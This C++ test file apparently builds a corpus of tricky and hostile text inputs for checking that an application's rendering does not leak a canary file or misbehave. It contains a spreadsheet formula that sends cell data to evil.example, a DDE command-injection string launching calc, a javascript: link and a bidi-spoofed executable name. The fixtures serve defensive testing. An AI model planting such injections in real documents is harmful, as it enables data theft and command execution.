// SPDX-FileCopyrightText: 2026 The Balehook authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "leaks/textcorpus.h"

namespace Balehook::Testing {

using namespace Qt::StringLiterals;

namespace {

constexpr int hugeSize = 200'000;

QString allControls()
{
    QString all = u"\x1b[31mred\x1b[0m \x1b]0;title\a "_s;
    for (char16_t c = 1; c < 0xa0; c = c == 0x1f ? 0x7f : char16_t(c + 1))
        all += QChar(c);
    return all;
}

} // namespace

QList<CorpusText> textCorpus(const QString &canaryFile)
{
    const auto markup = [&canaryFile](QString text) { return text.replace(u"FILE"_s, canaryFile); };
    const QString zalgo = u"h\u0335\u0321\u0322e\u0336\u0353\u0354l\u0337\u0315p\u0338\u0344"_s;
    return {
        {"image", markup(u"<img src=\"FILE\"><img src='file://FILE'/><IMG SRC=FILE>"_s)},
        {"page",
         markup(u"<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"file://FILE\"><style>@import "
                "url(FILE);body{background:url(file://FILE)}</style></head><body background=\"FILE\"><h1>Big</h1>"
                "<a href=\"file://FILE\">open</a><script src=\"FILE\"></script></body></html>"_s)},
        {"rich text", markup(u"<qt><b>bold</b><img src='FILE'></qt>"_s)},
        {"nested tables", markup(u"<table><tr><td>"_s.repeated(40) + u"<img src=\"FILE\">"_s)},
        {"markdown", markup(u"![x](FILE) **bold** [link](file://FILE)"_s)},
        {"entities", u"&lt;b&gt; &amp;amp; &#x202e; &nbsp;"_s},
        {"bidi", u"invoice\u202Efdp.exe\u202C \u2066a\u2067b\u2069 \u202Dc\u200Fd\u061C"_s},
        {"right to left", u"שלום עולם (123) مرحبا بالعالم"_s},
        {"combining", QString(u'e' + QString(10'000, QChar(u'\u0301')) + u"f"_s)},
        {"marks everywhere", zalgo.repeated(500)},
        {"controls", allControls()},
        {"NUL", u"before"_s + QChar(u'\0') + u"after"_s},
        {"lone surrogates", u"a"_s + QChar(u'\xD800') + u"b"_s + QChar(u'\xDC00') + QChar(u'\xD83D')},
        {"invisible", u"a\u200Bb\u200Dc\u2060d\uFEFFe\u00ADf\u3164g\U000E0041h"_s},
        {"tall", u"\uFDFD\u0BF5 \uA9C5 \U0001F469\u200D\U0001F469\u200D\U0001F467"_s.repeated(200)},
        {"200,000 characters", u"lorem ipsum "_s.repeated(hugeSize / 12)},
        {"one word of 200,000", QString(hugeSize, u'W')},
        {"20,000 lines", u"line\n"_s.repeated(20'000)},
        {"places", u"%1 %2 %n %Ln %L1 %s %d %% {0} ${x} %"_s},
        {"mnemonics", u"&File && E&xit &&& &"_s},
        {"line ends", u"a\tb\nc\r\nd\re\u2028f\u2029\"g\" 'h'"_s},
        {"formula", u"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"_s},
        {"command", u"@SUM(1+1)*cmd|' /C calc'!A0"_s},
        {"file link", markup(u"file://FILE"_s)},
        {"other links", markup(u"FILE mailto:a@b.example javascript:alert(1) data:text/html,<b>x</b> smb://x/y"_s)},
        {"web link", u"https://evil.example/<img src=x>?a=%00&b=\u202E"_s},
    };
}

QByteArray jsonEscaped(const QString &text)
{
    QByteArray escaped;
    escaped.reserve(text.size());
    for (const QChar c : text) {
        const ushort unit = c.unicode();
        if (unit >= 0x20 && unit < 0x7f && unit != '"' && unit != '\\')
            escaped += char(unit);
        else
            escaped += "\\u" + QByteArray::number(unit, 16).rightJustified(4, '0');
    }
    return escaped;
}

} // namespace Balehook::Testing
